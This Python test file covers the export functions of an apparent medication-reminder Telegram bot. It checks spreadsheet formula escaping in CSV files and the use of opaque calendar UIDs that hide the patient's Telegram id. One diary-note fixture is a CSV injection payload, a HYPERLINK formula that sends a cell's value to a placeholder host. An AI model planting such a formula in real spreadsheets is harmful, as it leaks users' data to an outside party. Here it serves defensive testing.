"""The export files: what someone wrote never becomes a spreadsheet formula, and the calendar's
event UIDs do not carry the patient's Telegram id."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time

from icalendar import Calendar

from bot.domain.export import as_text_cell, calendar_ics, calendar_reference, records_csv
from bot.domain.schedule import PlannedDose


def test_formula_starts_are_kept_as_text() -> None:
    for text in ("=1+1", "+49 30 1234", "-5 mg", "@doctor", "\tx", "\rx"):
        assert as_text_cell(text) == "'" + text
    for text in ("headache", "", " =1", "'quoted", "5-6 mg"):
        assert as_text_cell(text) == text


def test_diary_notes_in_the_csv() -> None:
    notes = [
        (date(2026, 3, 1), '=HYPERLINK("http://x.example/?"&A1,"open")'),
        (date(2026, 3, 2), "ok"),
    ]
    rows = list(csv.DictReader(io.StringIO(records_csv([], notes))))
    assert [row["note"] for row in rows] == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "ok"]


def test_pens_at_home_in_the_csv_only_once_counted() -> None:
    counted = list(csv.DictReader(io.StringIO(records_csv([], [(date(2026, 3, 1), "ok")], 4))))
    assert [(row["record"], row["note"]) for row in counted] == [
        ("diary", "ok"),
        ("pens_at_home", "4"),
    ]
    never = list(csv.DictReader(io.StringIO(records_csv([], []))))
    assert never == []


def test_calendar_uids_are_opaque_and_stable() -> None:
    reference = calendar_reference(123456789, "secret")
    assert reference == calendar_reference(123456789, "secret")
    assert reference != calendar_reference(123456780, "secret")
    assert reference != calendar_reference(123456789, "another secret")
    dose = PlannedDose(5, date(2026, 4, 2), None, provisional=False, before_enrolment=False)
    ics = calendar_ics(
        [dose],
        reminder_time=time(9),
        zone="Europe/Berlin",
        now=datetime(2026, 3, 1, tzinfo=UTC),
        uid_prefix=reference,
        title=lambda number: f"dose {number}",
        description="",
    )
    [event] = Calendar.from_ical(ics).walk("VEVENT")
    assert str(event["uid"]) == f"{reference}-dose-5@kesimpta-companion-bot"
    assert "123456789" not in ics.decode()
